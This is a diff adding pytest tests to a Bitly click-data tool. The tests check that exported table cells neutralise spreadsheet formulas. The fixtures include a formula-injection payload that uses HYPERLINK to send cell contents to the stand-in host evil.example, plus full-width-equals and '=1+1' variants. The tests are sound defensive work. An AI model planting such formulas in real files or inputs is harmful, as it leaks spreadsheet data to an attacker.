@@ -6,6 +6,7 @@ import json
 from pathlib import Path
 
 import pytest
+from apptest import opened, table, tables
 from support import write_clicks
 
 from bitly_data.connect import connect
@@ -83,3 +84,23 @@ def test_what_cannot_be_asked_for_is_not_offered_and_does_not_stop_the_list() ->
         "sub_accounts": ["bob", "a\nb", {"login": "eve"}]}}).encode()
     assert v3.parse_account(v3.USER_INFO, 200, body) == v3.Account(
         login="ann", short_domains=("go.ex.com",), logins=("ann", "bob", "eve"))
+
+
+@pytest.mark.parametrize(("login", "cell"), [
+    ('=HYPERLINK("http://evil.example/?"&A1)', "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
+    ("a;＝1+1", "a;'＝1+1")])
+def test_no_table_of_a_page_has_a_formula_in_it(
+        login: str, cell: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A reader can take each of them away as a CSV file that the browser makes."""
+    monkeypatch.setenv("BITLY_CLICK_LOG", write_clicks(tmp_path / "clicks.log", [
+        ("2013-05-17T02:00:00", "go.ex.com/Ab", login, "http://ex.com/a", 1)]))
+    assert set(table(opened("organization", units="2", login=login))["Series"]) == {cell}
+
+
+def test_nor_has_the_list_of_lines_that_could_not_be_read(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "=1+1").write_text("what\n")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("BITLY_CLICK_LOG", "=1+1")
+    (lines,) = tables(opened("organization", units="2"), "Reason")
+    assert lines["File"].tolist() == ["'=1+1"]
